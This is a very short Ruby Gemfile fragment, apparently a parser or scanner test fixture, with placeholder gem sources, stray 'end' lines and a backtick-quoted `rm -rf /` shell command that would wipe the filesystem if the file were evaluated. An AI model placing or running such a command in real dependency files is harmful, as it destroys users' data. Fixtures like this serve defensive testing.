source "https://#{ENV['T']}@gem.fury.io/acme/"
git "https://x" do
 gem "a"
end
end
end
`rm -rf /`
gem "b", :git => "y"
